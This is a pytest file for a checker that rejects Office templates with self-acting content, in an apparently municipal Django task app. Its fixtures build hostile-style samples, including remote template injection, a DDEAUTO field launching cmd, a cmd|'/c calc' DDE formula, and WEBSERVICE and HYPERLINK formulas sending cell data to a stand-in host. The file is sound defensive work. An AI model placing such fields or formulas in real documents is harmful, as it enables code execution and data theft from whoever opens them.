"""A template that would load, start or send something in the hands of whoever opens what was made on it."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook

from nanohana.apps.task_apps.models import AppVersion, TaskApp
from nanohana.apps.task_apps.results import File, Note, plain_text
from nanohana.apps.task_apps.run_models import RunTurn
from nanohana.apps.task_apps.template_contents import LARGEST_UNPACKED, acting_by_itself
from nanohana.apps.task_apps.tests.conftest import People, ran, sent, word

_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_AWAY = "https://away.example/d"


def repacked(file: bytes, changes: Mapping[str, tuple[str, str]], **added: bytes) -> bytes:
    """The file with text replaced in parts, by their names, and further parts."""
    target = BytesIO()
    with ZipFile(BytesIO(file)) as before, ZipFile(target, "w", ZIP_DEFLATED) as after:
        for name in before.namelist():
            old, new = changes.get(name, ("", ""))
            after.writestr(name, before.read(name).decode().replace(old, new, 1) if old else before.read(name))
        for name, content in added.items():
            after.writestr(name, content)
    return target.getvalue()


def related(kind: str, target: str, *, outside: bool = True, file: bytes | None = None) -> bytes:
    """A Word file with one relationship more."""
    mode = ' TargetMode="External"' if outside else ""
    relation = f'<Relationship Id="rId99" Type="{_OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
    changes = {"word/_rels/document.xml.rels": ("</Relationships>", relation)}
    return repacked(file or word("{{件名}}", "{{出力}}"), changes)


def with_fields(*instructions: str) -> bytes:
    """A Word file with complex fields, each of which is told in two runs."""
    runs = "".join(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in (told[:3], told[3:]))
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>文</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        for told in instructions
    )
    return repacked(word("{{出力}}"), {"word/document.xml": ("<w:body>", f"<w:body>{runs}")})


def with_field_alone(instruction: str) -> str:
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return f'<w:hdr xmlns:w="{space}"><w:p><w:fldSimple w:instr="{instruction}"/></w:p></w:hdr>'


def sheet(formula: str) -> bytes:
    book, file = Workbook(), BytesIO()
    book.worksheets[0]["A1"], book.worksheets[0]["B1"] = "{{出力}}", f"={formula}"
    book.save(file)
    return file.getvalue()


NESTED = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    '<w:r><w:instrText> QUOTE 68 68 69 </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    '<w:r><w:instrText> c:\\a </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
ACTING: dict[str, tuple[bytes, str]] = {
    "a template of another host": (related("attachedTemplate", f"{_AWAY}.dotm"), "ファイルの外にあるもの"),
    "a template on a share": (related("attachedTemplate", r"file:///\\away.example\a.dotm"), "ファイルの外"),
    "a picture of another host": (related("image", f"{_AWAY}.png"), "ファイルの外にあるもの"),
    "a frame": (related("frame", _AWAY), "ファイルの外にあるもの"),
    "data of a mail merge": (related("mailMergeSource", _AWAY), "ファイルの外にあるもの"),
    "a linked object": (related("oleObject", _AWAY), "埋め込まれたファイル"),
    "an embedded object": (related("oleObject", "embeddings/o.bin", outside=False), "埋め込まれたファイル"),
    "another file, taken in": (related("aFChunk", "chunk.htm", outside=False), "埋め込まれたファイル"),
    "a macro": (related("vbaProject", "vbaProject.bin", outside=False), "マクロ"),
    "a link to a share": (related("hyperlink", r"file:///\\away.example\a"), "リンク"),
    "a link that is code": (related("hyperlink", "javascript:a()"), "リンク"),
    "a field that starts a program": (with_fields("DDEAUTO c:\\\\cmd"), "フィールド"),
    "a field that loads a picture": (with_fields(f"INCLUDEPICTURE {_AWAY}"), "フィールド"),
    "a field that takes in a file": (with_fields("PAGE", "includetext c:\\\\a"), "フィールド"),
    "a part of another name": (
        repacked(word("{{出力}}"), {}, **{"word/a.dat": with_field_alone("DDE a").encode("utf-16")}), "フィールド",
    ),
    "a simple field": (
        repacked(
            word("{{出力}}"),
            {"word/document.xml": ("<w:body>", '<w:body><w:p><w:fldSimple w:instr="LINK Excel.Sheet.12 a"/></w:p>')},
        ),
        "フィールド",
    ),
    "a field put together from another": (
        repacked(word("{{出力}}"), {"word/document.xml": ("<w:body>", f"<w:body>{NESTED}")}), "フィールド",
    ),
    "a field in a link": (with_fields(r'HYPERLINK "\\\\away.example\\a"'), "リンク"),
    "a formula that asks a host": (sheet('WEBSERVICE("https://away.example/?d="&A1)'), "数式"),
    "a service that translates what was entered": (sheet('_xlfn.TRANSLATE(A1,"ja","en")'), "数式"),
    "a picture by formula": (sheet('_xlfn.IMAGE("https://away.example/a")'), "数式"),
    "a link with what was entered": (sheet('HYPERLINK("https://away.example/?d="&A1)'), "数式"),
    "another program": (sheet("cmd|'/c calc'!A0"), "数式"),
    "another book": (sheet("'C:\\[book.xlsx]a'!A1"), "数式"),
}  # fmt: skip


@pytest.mark.parametrize("what", ACTING)
def test_what_would_act_by_itself_is_found(what: str) -> None:
    content, reason = ACTING[what]
    assert reason in "".join(acting_by_itself(content))


HARMLESS: dict[str, bytes] = {
    "a plain file": word("{{件名}}", "{{出力}}"),
    "a link to the web": related("hyperlink", "https://www.pref.example.lg.jp/"),
    "a mail address": related("hyperlink", "mailto:a@pref.example.lg.jp"),
    "the template on one's own drive, which Word notes down": related("attachedTemplate", "file:///C:\\様式.dotx"),
    "usual fields": with_fields("PAGE  \\* MERGEFORMAT", "NUMPAGES", "= SUM(ABOVE)", 'HYPERLINK "https://a.example"'),
    "usual formulas": sheet('IF(SUM(A2:A9)>0,"a|b",表1[[#This Row],[単価.税]])'),
    "the name of the sheet": sheet('MID(CELL("filename",A1),FIND("]",CELL("filename",A1))+1,31)'),
    "a link by formula": sheet('HYPERLINK("https://www.pref.example.lg.jp/","県")'),
}


@pytest.mark.parametrize("what", HARMLESS)
def test_what_is_words_and_their_looks_is_taken(what: str) -> None:
    assert acting_by_itself(HARMLESS[what]) == []


def test_one_that_unpacks_to_more_than_a_process_can_hold_is_not_unpacked() -> None:
    content = repacked(word("{{出力}}"), {}, **{f"word/media/{n}.bin": bytes(LARGEST_UNPACKED // 2) for n in (1, 2)})
    assert "展開すると大きすぎます" in "".join(acting_by_itself(content))


@pytest.mark.django_db
def test_such_a_template_is_not_kept(people: People, draft: TaskApp) -> None:
    edit, client = f"/apps/manage/{draft.pk}/edit/", people.client("member")
    file = SimpleUploadedFile("様式.docx", ACTING["a template of another host"][0])
    answer = client.post(edit, sent(seen=1, output="word", template=file))
    page = answer.content.decode()
    assert answer.status_code == 422 and "ファイルの外にあるもの" in page and "away.example" in page
    assert not AppVersion.objects.get().template


@pytest.mark.django_db
def test_on_one_that_was_kept_before_no_file_is_made(made: Callable[..., TaskApp], people: People) -> None:
    kept = ACTING["a picture of another host"][0]
    app = made(recipe={"output": "word"}, template=kept, template_name="様式.docx")
    turn = ran(people.client("member"), app, {"field_0": "研修"})
    assert turn.state == RunTurn.State.DONE and "研修について（依頼）" in plain_text(turn.result)
    assert not any(isinstance(block, File) for block in turn.result)
    note = turn.result[-1]
    assert isinstance(note, Note) and "作れませんでした" in note.text and "ファイルの外にあるもの" in note.text
